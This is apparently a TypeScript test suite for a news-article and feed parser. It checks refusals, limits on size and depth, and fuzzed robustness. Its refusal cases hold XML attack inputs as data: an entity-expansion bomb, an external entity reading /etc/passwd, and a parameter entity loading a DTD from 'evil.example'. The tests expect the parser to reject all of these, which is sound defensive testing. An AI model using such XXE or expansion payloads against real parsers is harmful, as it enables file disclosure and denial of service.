import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { Article } from '@masar/shapes';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { limits, type Reason, receive } from '../src/index.ts';
import { articlesIn, taken } from './made.ts';

/** More of them are tried by hand: `RUNS=5000`. */
const runs = Number(process.env['RUNS'] ?? 150);

const paragraph =
  '<p>The delegations met on Monday in Geneva and agreed, after long discussion, to meet again on Wednesday in Brussels.</p>';
const page = (inner: string) =>
  `<!doctype html><html><head><title>Talks go on in Geneva</title></head><body><h1>Talks go on in Geneva</h1>${paragraph.repeat(3)}${inner}</body></html>`;
const rss = (inner: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss version="2.0"><channel><title>News</title><item><title>Talks</title><link>https://a.example/1</link>${inner}</item></channel></rss>`;

describe('what is refused, with its reason', () => {
  const laughs = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
  const cases: [string, string, Reason][] = [
    ['entities that expand', rss('<description>&c;</description>', laughs), 'forbidden'],
    ['an outer entity', rss('<description>&x;</description>', '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), 'forbidden'],
    ['a parameter entity', rss('', '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'), 'forbidden'],
    ['an entity behind the root', `${rss('')}<!ENTITY a "b">`, 'forbidden'],
    ['a sitemap with a DTD', '<!DOCTYPE urlset [<!ELEMENT urlset ANY>]><urlset></urlset>', 'forbidden'],
    ['an OPML file with a DTD', '<!DOCTYPE opml [<!ATTLIST opml x CDATA "y">]><opml version="2.0"><body/></opml>', 'forbidden'],
    ['a page that is too deep', page('<div>'.repeat(limits.depth + 1)), 'too deep'],
    ['a feed that is too deep', rss(`${'<a>'.repeat(limits.depth)}${'</a>'.repeat(limits.depth)}`), 'too deep'],
    [
      'JSON that is too deep',
      `{"version":"https://jsonfeed.org/version/1.1","items":${'['.repeat(limits.depth + 1)}${']'.repeat(limits.depth + 1)}}`,
      'too deep',
    ],
    ['a page of too many elements', page('<b></b>'.repeat(limits.elements + 1)), 'too large'],
    ['a feed of too many elements', rss('<x/>'.repeat(limits.elements + 1)), 'too large'],
    [
      'an element of too many attributes',
      page(`<p ${Array.from({ length: limits.attributes + 1 }, (_, at) => `a${at}=1`).join(' ')}>x</p>`),
      'too large',
    ],
    ['a page of too many pieces of text', page('<'.repeat(limits.pieces + 1)), 'too large'],
    ['a page of too much text', page('x'.repeat(limits.markup)), 'too large'],
    ['a page without copy', '<!doctype html><html><body><nav><a href="/">Home</a></nav></body></html>', 'no copy'],
    ['a broken feed', '<?xml version="1.0"?><feed><entry', 'malformed'],
    ['broken JSON', '{"version":"https://jsonfeed.org/version/1.1","items":[', 'malformed'],
    ['XML of another kind', '<?xml version="1.0"?><svg></svg>', 'unknown format'],
  ];
  for (const [name, content, reason] of cases) it(`${name}: ${reason}`, async () => expect(await taken(content)).toBe(reason));
  it('tells nothing of the input in its message', async () => {
    await expect(receive({ bytes: Buffer.from('<?xml version="1.0"?><evil>secret</evil>') })).rejects.toThrow(
      'the document is XML of a kind that is not read',
    );
  });
});

/** That each comes to an end within the time of a test is what is tested; which end is written beside it. */
describe('what is large and odd', () => {
  const half = limits.markup / 4;
  const many = (text: string, size = half) => text.repeat(Math.floor(size / text.length));
  const cases: [string, string, string][] = [
    ['numeric entities', page(many('&#x627;')), 'too large'],
    ['numeric entities in a feed', rss(`<description>${many('&#1575;')}</description>`), 'feed'],
    ['comments', page(many('<!-- x -->')), 'too large'],
    ['comments in a feed', rss(many('<!-- x -->')), 'too large'],
    ['sections that are never closed', rss(many('<![CDATA[ x ')), 'malformed'],
    ['comments that are never closed', page(many('<!-- ')), 'articles'],
    ['opening brackets', page(many('<')), 'too large'],
    ['quotation marks', page(`<p title=${many('"', half / 4)}>x</p>`), 'articles'],
    ['white space', page(many(' \n\t')), 'articles'],
    ['ampersands', page(many('&')), 'articles'],
    ['commas', page(`<p>${many('a, ')}</p>`), 'articles'],
    ['bars in the title', page('').replace('Talks go on in Geneva', many('a | ')), 'articles'],
    ['line breaks', page('a<br>'.repeat(limits.elements - 20)), 'articles'],
    ['short paragraphs', page('<p>a, b'.repeat(limits.elements / 2)), 'articles'],
    ['dated elements in one another', page(`${'<div class="date">'.repeat(200)}${many('x', half / 4)}`), 'too large'],
    ['articles in one another', page(`${'<div class="entry-content">'.repeat(200)}${many('x ', half / 4)}`), 'too large'],
    [
      'scripts of linked data',
      page(many('<script type="application/ld+json">[[[[{"@type":"NewsArticle"}]]]]</script>', half / 2)),
      'articles',
    ],
    ['items', rss(many('</item><item><guid>1</guid><title>x</title>', half / 4)), 'feed'],
  ];
  for (const [name, content, end] of cases)
    it(`${name}: ${end}`, async () => {
      const received = await taken(content);
      expect(typeof received === 'string' ? received : received.kind).toBe(end);
    });
});

/** What holds for every article, whatever it was made of. */
function sound(article: Article): void {
  let last = 0;
  for (const { from, to } of article.blocks) {
    const text = article.text.slice(from, to);
    expect(from).toBeGreaterThanOrEqual(last);
    expect(text.trim()).toBe(text);
    expect(text).not.toBe('');
    last = to;
  }
  if (article.format !== 'text') expect(article.text).toBe(article.blocks.map(({ from, to }) => article.text.slice(from, to)).join('\n\n'));
  if (article.published !== null) expect(Number.isNaN(Date.parse(article.published))).toBe(false);
  for (const address of [article.url, article.canonical, article.original]) if (address !== null) expect(address).toMatch(/^https?:/);
  if (article.format !== 'text') expect(article.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/);
}

describe('any input', () => {
  const folder = fileURLToPath(new URL('../golden/', import.meta.url));
  const golden = readdirSync(folder)
    .filter((name) => !name.endsWith('.txt'))
    .map((name) => readFileSync(folder + name));
  const both = async (content: string | Uint8Array) => {
    const first = await taken(content, { url: 'https://a.example/2022/01/10/x' });
    expect(await taken(content, { url: 'https://a.example/2022/01/10/x' })).toEqual(first);
    articlesIn(first).forEach(sound);
  };
  it('golden files are sound', () => Promise.all(golden.map(both)));
  it.each(['<!--', '<![CDATA[', '</', '<style>', '<template>', '<svg>'])('golden files that begin with %s are', async (before) => {
    for (const file of golden) await both(Buffer.concat([Buffer.from(before), file]));
  });
  it('damaged golden files give articles or one refusal, twice the same', async () => {
    const damage = fc.record({
      at: fc.double({ min: 0, max: 1, noNaN: true }),
      cut: fc.nat(60),
      put: fc.oneof(
        fc.uint8Array({ maxLength: 8 }),
        fc.constantFrom('<', '>', '"', '&', ']]>', '<!--', '</div>', '<table>', '\u202e', '<![CDATA[').map((text) => Buffer.from(text)),
      ),
    });
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...golden.keys()), fc.array(damage, { minLength: 1, maxLength: 5 }), async (at, damages) => {
        let bytes = Buffer.from(golden[at] as Uint8Array);
        for (const { at, cut, put } of damages) {
          const from = Math.floor(at * bytes.length);
          bytes = Buffer.concat([bytes.subarray(0, from), put, bytes.subarray(from + cut)]);
        }
        await both(bytes);
      }),
      { numRuns: runs },
    );
  });
  it('any mark-up does', async () => {
    const tag = fc.constantFrom(
      'p',
      'div',
      'br',
      'h1',
      'table',
      'tr',
      'td',
      'li',
      'a',
      'article',
      'script',
      'style',
      'svg',
      'html',
      'head',
      'body',
      'template',
      'form',
      'title',
      'time',
      'blockquote',
    );
    const bit = fc.oneof(
      tag.map((name) => `<${name}>`),
      tag.map((name) => `</${name}>`),
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.constant('The two sides, who met in Geneva, agreed on a further round of talks in Brussels. '),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(bit, { maxLength: 60 }), (bits) => both(`<html>${bits.join('')}`)),
      { numRuns: runs },
    );
  });
});
